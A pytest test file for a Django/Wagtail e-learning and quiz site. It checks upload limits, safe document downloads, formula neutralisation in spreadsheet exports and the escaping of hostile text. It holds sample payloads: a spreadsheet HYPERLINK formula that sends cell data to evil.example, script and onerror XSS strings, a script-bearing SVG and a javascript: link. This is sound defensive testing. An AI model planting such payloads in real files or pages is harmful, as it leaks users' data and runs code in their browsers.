"""What people bring in and take out: uploads are limited in size and type, documents download
as attachments, spreadsheet exports carry no live formula, and hostile text renders inert."""

import csv
import io
from html.parser import HTMLParser

import pytest
from django.conf import settings
from django.contrib.auth import get_user_model
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import override_settings
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.documents import get_document_model
from wagtail.images import get_image_model
from wagtail.images.tests.utils import get_test_image_file
from wagtail.rich_text import RichText

from quizzes.leaderboards import get_backend
from tests.factories.courses import ProcedureFactory
from tests.factories.spreadsheets import xlsx_bytes

pytestmark = pytest.mark.django_db

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")', "+1+2", "-3+4", "@SUM(1,2)"]
SCRIPT = "<script>alert('xss')</script>"
ONERROR = '<img src=x onerror="alert(1)">'


@pytest.fixture
def superuser(db):
    return get_user_model().objects.create_superuser("root", "root@example.vn", "Root-pass-2018")


# --- uploads ----------------------------------------------------------------------------------------


def png_of_size(size):
    data = get_test_image_file(size=(8, 8)).file.getvalue()
    return data + b"\0" * (size - len(data))


def test_the_upload_limits_are_the_designed_ones():
    assert settings.WAGTAILIMAGES_MAX_UPLOAD_SIZE == 5 * 1024 * 1024
    assert settings.WAGTAILDOCS_MAX_UPLOAD_SIZE == 10 * 1024 * 1024
    assert settings.SPREADSHEET_MAX_UPLOAD_SIZE == 5 * 1024 * 1024
    assert set(settings.WAGTAILIMAGES_EXTENSIONS) == {"gif", "jpg", "jpeg", "png", "webp"}
    assert "svg" not in settings.WAGTAILIMAGES_EXTENSIONS  # an SVG can carry script
    assert not {"html", "htm", "svg", "js", "exe"} & set(settings.WAGTAILDOCS_EXTENSIONS)


@pytest.mark.parametrize(
    ("name", "content", "accepted"),
    [
        ("anh.png", png_of_size(4096), True),
        ("qua-lon.png", png_of_size(settings.WAGTAILIMAGES_MAX_UPLOAD_SIZE + 1), False),
        ("anh.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', False),
        ("gia-anh.png", b"<html><script>alert(1)</script></html>", False),  # the name lies
    ],
)
def test_image_uploads_are_checked_for_size_and_type(client, superuser, name, content, accepted):
    client.force_login(superuser)
    response = client.post(
        reverse("wagtailimages:add"),
        {"title": name, "file": SimpleUploadedFile(name, content), "collection": 1},
    )
    assert get_image_model().objects.filter(title=name).exists() is accepted, response.status_code


@pytest.mark.parametrize(
    ("name", "size", "accepted"),
    [
        ("quyet-dinh.pdf", 2048, True),
        ("qua-lon.pdf", settings.WAGTAILDOCS_MAX_UPLOAD_SIZE + 1, False),
        ("trang.html", 2048, False),
        ("trang.svg", 2048, False),
        ("chuong-trinh.exe", 2048, False),
    ],
)
def test_document_uploads_are_checked_for_size_and_type(client, superuser, file_storage, name, size, accepted):
    client.force_login(superuser)
    content = b"%PDF-1.4\n" + b"0" * (size - 9)
    client.post(reverse("wagtaildocs:add"), {"title": name, "file": SimpleUploadedFile(name, content), "collection": 1})
    assert get_document_model().objects.filter(title=name).exists() is accepted


def test_documents_download_as_attachments_and_are_never_sniffed(world, client):
    for name, payload in (("quyet-dinh.pdf", b"%PDF-1.4 test"), ("ghi-chu.txt", b"<script>alert(1)</script>")):
        document = get_document_model().objects.create(
            title=name, file=SimpleUploadedFile(name, payload), collection_id=world.document.collection_id
        )
        response = client.get(document.url)
        assert response.status_code == 200
        assert response["Content-Disposition"].startswith("attachment"), name
        assert response["X-Content-Type-Options"] == "nosniff"
        assert response["Content-Security-Policy"] == "default-src 'none'"


@pytest.mark.parametrize(
    ("url_name", "extra"),
    [("elearning_officials_import", {"mode": "password"}), ("quizzes_bank:import", {})],
)
def test_spreadsheet_uploads_are_checked_for_size_and_type(client, world, url_name, extra):
    client.force_login(world.users["organizer"])
    if url_name == "quizzes_bank:import":
        extra = {"bank": world.contest.bank_id}
    url = reverse(url_name)
    fake = client.post(url, {**extra, "file": SimpleUploadedFile("ds.xlsx", b"<html>not a workbook</html>")})
    assert fake.status_code == 400
    assert ".xlsx" in fake.content.decode()
    with override_settings(SPREADSHEET_MAX_UPLOAD_SIZE=2048):
        big = xlsx_bytes(["full_name", "phone"], *[[f"Người {i}" * 20, f"09{i:08d}"] for i in range(300)])
        assert len(big) > 2048
        response = client.post(url, {**extra, "file": SimpleUploadedFile("ds.xlsx", big)})
    assert response.status_code == 400
    assert "2,0" in response.content.decode() or "2.0" in response.content.decode()  # the limit, in KB


# --- exports: no formula runs in the organizer's spreadsheet ------------------------------------------------


def cells_of(response):
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if response["Content-Type"].startswith("text/csv"):
        return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]
    workbook = load_workbook(io.BytesIO(content))
    return [cell.value for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_live_formula(cells, planted):
    texts = [str(value) for value in cells if value is not None]
    for formula in planted:
        assert formula not in texts, f"{formula!r} exported as a live formula"
        assert "'" + formula in texts, f"{formula!r} missing from the export"
    assert not any(text.startswith("=") for text in texts)


@pytest.fixture
def hostile_world(world):
    """Text fields people type (names, positions, questions, procedures) holding formulas."""
    from elearning.models import Unit
    from quizzes.models import Question

    profile = (
        world.participant_profile if "participant_profile" in world.objects else world.users["participant"].profile
    )
    profile.full_name, profile.position = FORMULAS[0], FORMULAS[1]
    profile.save()
    Unit.objects.filter(pk=profile.unit_id).update(name=FORMULAS[2])
    Question.objects.filter(pk=world.question.pk).update(text=FORMULAS[3], topic=FORMULAS[0])
    ProcedureFactory(name=FORMULAS[0], fee=FORMULAS[1])
    return world


@pytest.mark.parametrize(
    ("url_name", "planted"),
    [
        ("elearning_profile:index", FORMULAS[:2]),
        ("elearning_unit:index", FORMULAS[2:3]),
        ("quizzes_question:index", [FORMULAS[3], FORMULAS[0]]),
        ("wagtailsnippets_courses_procedure:list", FORMULAS[:2]),
    ],
)
@pytest.mark.parametrize("export_format", ["xlsx", "csv"])
def test_admin_list_exports_neutralise_formulas(client, hostile_world, url_name, planted, export_format):
    client.force_login(hostile_world.users["organizer"])
    response = client.get(reverse(url_name), {"export": export_format})
    assert response.status_code == 200
    assert_no_live_formula(cells_of(response), planted)


def test_the_question_bank_export_neutralises_formulas(client, hostile_world):
    client.force_login(hostile_world.users["organizer"])
    response = client.get(reverse("quizzes_bank:export", args=[hostile_world.contest.bank_id]))
    assert response.status_code == 200
    assert_no_live_formula(cells_of(response), [FORMULAS[3], FORMULAS[0]])


def test_the_course_progress_export_neutralises_formulas(client, hostile_world):
    from courses.models import Enrolment

    Enrolment.objects.create(user=hostile_world.users["participant"], course=hostile_world.course)
    client.force_login(hostile_world.users["organizer"])
    response = client.get(reverse("courses_progress_report_course", args=[hostile_world.course.pk]), {"export": "xlsx"})
    assert response.status_code == 200
    assert_no_live_formula(cells_of(response), [FORMULAS[2]])


@pytest.mark.parametrize("kind", ["round", "contest", "units", "attempts"])
def test_contest_result_exports_neutralise_formulas(client, hostile_world, kind):
    from django.urls import NoReverseMatch

    from quizzes.services.results import close_round

    try:
        url = reverse("quizzes_results:export", args=[hostile_world.contest.pk, kind])
    except NoReverseMatch:
        pytest.skip("the results dashboard is not installed")
    close_round(hostile_world.round_1, user=hostile_world.users["organizer"])
    client.force_login(hostile_world.users["organizer"])
    response = client.get(url, {"round": 1})
    assert response.status_code == 200, response.get("Location")
    planted = {"round": FORMULAS[:1], "contest": FORMULAS[:1], "units": FORMULAS[2:3], "attempts": FORMULAS[:1]}[kind]
    assert_no_live_formula(cells_of(response), planted)


# --- hostile text renders inert ------------------------------------------------------------------------------


class ActiveMarkup(HTMLParser):
    """Collects what a browser would run: script elements, on… handlers, javascript: URLs."""

    def __init__(self):
        super().__init__()
        self.found = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        if tag == "script":
            self._in_script = not dict(attrs).get("src") and dict(attrs).get("type") != "application/json"
        for name, value in attrs:
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}=...>")
            if name in ("href", "src", "action", "formaction") and (value or "").strip().lower().startswith(
                "javascript:"
            ):
                self.found.append(f"<{tag} {name}={value}>")

    def handle_endtag(self, tag):
        if tag == "script":
            self._in_script = False

    def handle_data(self, data):
        if self._in_script and "alert" in data:
            self.found.append(f"<script>{data[:40]}")


def assert_inert(html, *payloads):
    parser = ActiveMarkup()
    parser.feed(html)
    assert not parser.found, parser.found
    for payload in payloads:
        assert payload not in html, payload  # the raw markup never reaches the page


def test_a_hostile_profile_and_unit_name_are_text_on_public_boards_and_in_the_admin(client, world):
    from elearning.models import Unit

    profile = world.users["participant"].profile
    profile.full_name = SCRIPT + ONERROR
    profile.save()
    Unit.objects.filter(pk=profile.unit_id).update(name=ONERROR + SCRIPT)
    backend = get_backend()
    if hasattr(backend, "rebuild_round"):  # Redis keeps display names: rebuild as after a rename
        backend.rebuild_round(world.round_1.pk)
    pages = [
        world.contest.url + "leaderboard/?round=1",
        world.contest.url + "leaderboard/?round=1&scope=unit",
        world.contest.url,
    ]
    for url in pages:
        response = client.get(url)
        assert response.status_code == 200
        html = response.content.decode()
        assert_inert(html, SCRIPT, ONERROR)
    assert "&lt;script&gt;alert(" in client.get(pages[0]).content.decode()  # shown, as text
    api = client.get(f"/api/v1/contests/{world.contest.slug}/leaderboard/?round=1").json()
    assert api["results"][0]["name"] == SCRIPT + ONERROR  # JSON carries the text; the page escapes it
    client.force_login(world.users["organizer"])
    for url in (reverse("elearning_profile:index"), reverse("elearning_unit:index")):
        html = client.get(url).content.decode()
        assert_inert(html, SCRIPT, ONERROR)
        assert "&lt;script&gt;" in html


def test_hostile_question_text_is_text_in_the_runner(client, world):
    from quizzes.models import Choice, Question

    attempt = world.running_attempt
    first = attempt.draw[0]
    Question.objects.filter(pk=first["q"]).update(text=SCRIPT + '<a href="javascript:alert(1)">x</a>')
    Choice.objects.filter(pk=first["c"][0]).update(text=ONERROR)
    client.force_login(world.users["participant"])
    html = client.get(reverse("quizzes:attempt", args=[attempt.pk])).content.decode()
    assert_inert(html, SCRIPT, ONERROR)
    assert "&lt;script&gt;" in html


def test_rich_text_from_the_editor_cannot_carry_script_or_javascript_links(client, world):
    """What the editor saves goes through Wagtail's converter, which keeps only known elements
    and refuses javascript: links; the page then shows the text, not the markup."""
    import json

    from wagtail.admin.rich_text.converters.contentstate import ContentstateConverter

    converter = ContentstateConverter(features=["bold", "italic", "link", "h2", "ol", "ul"])
    contentstate = {
        "blocks": [
            {
                "key": "a1",
                "type": "unstyled",
                "text": f"{SCRIPT} {ONERROR} bấm đây",
                "depth": 0,
                "inlineStyleRanges": [],
                "entityRanges": [{"offset": len(SCRIPT) + len(ONERROR) + 2, "length": 7, "key": 0}],
            }
        ],
        "entityMap": {"0": {"type": "LINK", "mutability": "MUTABLE", "data": {"url": "javascript:alert(1)"}}},
    }
    stored = converter.to_database_format(json.dumps(contentstate))
    assert "javascript:" not in stored and "<script" not in stored
    news = world.news
    news.body = [("paragraph", RichText(stored))]
    lesson = world.lesson
    lesson.body = [("paragraph", RichText(stored)), *[(block.block_type, block.value) for block in lesson.body]]
    lesson.save_revision().publish()
    news.save_revision().publish()
    for page in (news, lesson):
        html = client.get(page.url).content.decode()
        assert_inert(html, SCRIPT, ONERROR)
        assert "&lt;script&gt;" in html and "bấm đây" in html
